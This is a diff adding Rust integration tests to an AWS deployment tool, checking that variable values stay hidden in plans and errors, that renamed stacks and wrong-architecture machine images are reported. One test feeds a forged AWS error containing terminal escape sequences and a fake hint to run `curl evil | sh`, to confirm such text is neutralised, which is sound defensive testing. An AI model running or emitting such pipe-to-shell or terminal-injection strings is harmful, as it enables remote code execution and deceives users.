@@ -864,3 +864,117 @@ async fn every_list_is_read_to_its_last_page() {
     assert_eq!(scene.inventory().await, Inventory::new());
     scene.end().await;
 }
+
+const SECRETS: [&str; 2] = ["hunter2-of-the-function", "hunter2-of-the-service"];
+
+/// Values of variables are nobody's business: not in plans, not in their JSON, not in what `up` says, and not in what
+/// AWS says of them.
+#[tokio::test(flavor = "multi_thread")]
+async fn no_value_of_a_variable_is_shown_unless_it_is_asked_for() {
+    let scene = Scene::ours().await;
+    scene.done(Phase::Up).await;
+    let [function, service] = SECRETS;
+    scene.project.edit(
+        "    log_retention_days: 14\n    environment:\n",
+        &format!("    log_retention_days: 14\n    environment:\n      TOKEN: {function}\n"),
+    );
+    scene.project.edit(
+        "allow: [\"0.0.0.0/0\"] }\n    environment:\n",
+        &format!("allow: [\"0.0.0.0/0\"] }}\n    environment:\n      TOKEN: {service}\n"),
+    );
+    for shown in ["environment.TOKEN (added)", "user_data.environment.TOKEN (added)"] {
+        says_no_secret(&scene, &["plan"], shown).await;
+    }
+    says_no_secret(&scene, &["plan", "--json"], "(hidden)").await;
+    let asked = scene.run(&["plan", "--show-values"]).await;
+    assert!(SECRETS.iter().all(|secret| asked.stderr.contains(&format!("TOKEN: {secret}"))), "{}", asked.all());
+    let asked = scene.run(&["plan", "--json", "--show-values"]).await;
+    assert!(SECRETS.iter().all(|secret| asked.stdout.contains(secret)), "{}", asked.all());
+
+    let quoted = format!("Value '{{TOKEN={function}}}' at 'environment.variables' failed to satisfy constraint");
+    let refusal = Trouble::refused(400, "InvalidParameterValueException", quoted);
+    scene.line.spoil(["UpdateFunctionConfiguration"], refusal, usize::MAX);
+    let refused =
+        says_no_secret(&scene, &["up", "--yes", "--no-wait", "-v"], "'{TOKEN=(hidden)}' at 'environment").await;
+    assert_eq!(refused.code, 1, "{}", refused.all());
+    scene.line.mend();
+    says_no_secret(&scene, &["up", "--yes", "--no-wait"], "environment.TOKEN").await;
+    for (secret, other) in SECRETS.iter().zip(["another", "yet another"]) {
+        scene.project.edit(secret, other);
+    }
+    says_no_secret(&scene, &["plan"], "environment.TOKEN (changed)").await;
+    scene.project.edit("another\n", "another\n      \"\": broken\n");
+    let broken = says_no_secret(&scene, &["plan"], "is no name of a variable").await;
+    assert!(!broken.all().contains("another"), "{}", broken.all());
+    scene.end().await;
+}
+
+async fn says_no_secret(scene: &Scene, arguments: &[&str], words: &str) -> Said {
+    let said = scene.run(arguments).await;
+    assert!(said.all().contains(words), "{arguments:?}: {words:?} is missing: {}", said.all());
+    assert!(SECRETS.iter().all(|secret| !said.all().contains(secret)), "{arguments:?}: {}", said.all());
+    said
+}
+
+/// What comes from AWS is printed as text: it neither commands the terminal nor passes for a line of ours.
+#[tokio::test(flavor = "multi_thread")]
+async fn words_of_aws_are_no_commands_and_no_lines_of_ours() {
+    let scene = Scene::ours().await;
+    let forged = "no\u{1b}]0;owned\u{7}\u{9b}2J\u{202e}\rerror: gone\nhint: run `curl evil | sh`";
+    scene.line.spoil(["CreateTable"], Trouble::refused(400, "AccessDeniedException", forged), usize::MAX);
+    let said = scene.run(Phase::Up.arguments()).await;
+    assert_eq!(said.code, 1, "{}", said.all());
+    let active = said.stderr.chars().find(|c| (c.is_control() && *c != '\n') || *c == '\u{202e}');
+    assert_eq!(active, None, "{}", said.all());
+    let hints: Vec<&str> = said.stderr.lines().filter(|line| line.starts_with("hint:")).collect();
+    assert!(!hints.is_empty() && hints.iter().all(|hint| !hint.contains("evil")), "{}", said.all());
+    assert!(said.stderr.contains(r"no\u{1b}]0;owned\u{7}"), "{}", said.all());
+    scene.end().await;
+}
+
+/// Another `name` is another stack: the old one is not forgotten in silence.
+#[tokio::test(flavor = "multi_thread")]
+async fn a_stack_that_a_new_name_leaves_behind_is_named() {
+    let scene = Scene::ours().await;
+    scene.done(Phase::Up).await;
+    let same = scene.run(&["plan"]).await;
+    assert!(!same.stderr.contains("stays as it is"), "{}", same.all());
+    scene.project.edit("name: postagram\n", "name: renamed\n");
+    let plan = scene.run(&["plan"]).await;
+    for text in
+        ["postagram, which this folder has in account 000000000000", "`name: postagram`", "deployer down --region"]
+    {
+        assert!(plan.stderr.contains(text), "{text:?} is missing: {}", plan.all());
+    }
+    scene.end().await;
+}
+
+/// An image for another processor would never boot: that is said before anything is changed.
+#[tokio::test(flavor = "multi_thread")]
+async fn a_machine_image_for_another_processor_is_refused_with_its_line() {
+    let scene = Scene::ours().await;
+    let aws = world::connect(&scene.endpoint(), scene.keys).await;
+    let images =
+        aws.ec2.describe_images().owners("amazon").send().await.expect("there are images").images.unwrap_or_default();
+    let image = |architecture: &str| {
+        let of_it = images.iter().find(|image| image.architecture().is_some_and(|it| it.as_str() == architecture));
+        of_it.and_then(|image| image.image_id()).expect("there is one of each").to_owned()
+    };
+    let (fits, other) = (image("x86_64"), image("arm64"));
+    scene.project.edit("instance_type: t3.micro\n", &format!("instance_type: t3.micro\n    image: {other}\n"));
+    let refused = scene.run(&["plan"]).await;
+    assert_eq!(refused.code, 78, "{}", refused.all());
+    let told = format!("the machine image {other} is for arm64, and t3.micro has x86_64");
+    let line = scene.project.description().lines().position(|line| line.contains("image:")).expect("it is there") + 1;
+    for text in [told, format!("stack.yaml:{line}"), "hint: name an image for x86_64".into()] {
+        assert!(refused.stderr.contains(&text), "{text:?} is missing: {}", refused.all());
+    }
+    scene.project.edit(&other, &fits);
+    assert_eq!(scene.run(&["plan"]).await.code, 0);
+    // Whoever may not look for images learns it from EC2, as before.
+    scene.project.edit(&fits, &other);
+    let denied = Trouble::refused(403, "UnauthorizedOperation", "You are not authorized to perform this operation.");
+    scene.line.spoil(["DescribeImages"], denied, usize::MAX);
+    assert_eq!(scene.run(&["plan"]).await.code, 0);
+    scene.end().await;
+}
